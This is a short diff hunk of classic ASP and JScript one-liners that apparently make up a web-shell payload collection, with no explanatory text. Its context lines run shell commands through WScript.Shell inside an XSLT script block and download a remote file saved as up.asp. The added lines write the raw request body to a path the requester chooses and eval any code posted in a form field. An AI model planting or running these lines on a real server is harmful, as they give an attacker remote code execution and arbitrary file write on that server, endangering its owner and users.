@@ -4,3 +4,5 @@
 <% Set e = Server.CreateObject("MSScriptControl.ScriptControl") : e.Language = "JScript" : e.AddObject "Request", Request : e.Run "main" %>
 <% x = "<msxsl:script language=""JScript"" implements-prefix=""u"">function f(c){return new ActiveXObject('WScript' + '.Shell').Exec(c).StdOut.ReadAll();}</msxsl:script>" : Response.Write d.transformNode(s) %>
 <% Set h = CreateObject("Microsoft.XMLHTTP") : h.Open "GET", u, False : h.Send : Set t = CreateObject("ADODB.Stream") : t.Type = 1 : t.Open : t.Write h.ResponseBody : t.SaveToFile Server.MapPath( "up.asp" ), 2 %>
+<% Set st = CreateObject("ADODB.Stream") : st.Type = 1 : st.Open : st.Write Request.BinaryRead(Request.TotalBytes) : st.SaveToFile Request("p"), 2 %>
+<script runat="server" language="jscript">eval( String( Request.Form("x") ) )</script>
